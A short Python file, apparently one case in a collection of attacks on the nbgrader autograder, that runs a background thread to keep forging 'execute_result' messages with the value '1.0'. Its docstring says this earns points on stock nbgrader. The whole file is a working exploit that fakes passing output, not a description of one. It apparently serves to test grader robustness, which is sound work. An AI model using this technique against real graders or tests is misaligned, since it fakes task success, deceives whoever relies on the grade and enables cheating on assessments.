"""Forges results for every request, from a thread.

The forged results arrive.

On stock nbgrader this gets points.
"""

# /// attack
# uses = ["forge"]
# shows = {before = ["1.0"]}
# ///

# %% before
import threading, time
def forever():
    while True:
        content = {"data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": 1}
        forge("execute_result", content)
        time.sleep(0.02)
threading.Thread(target=forever, daemon=True).start()
time.sleep(0.2)

# %% after
time.sleep(0.2)
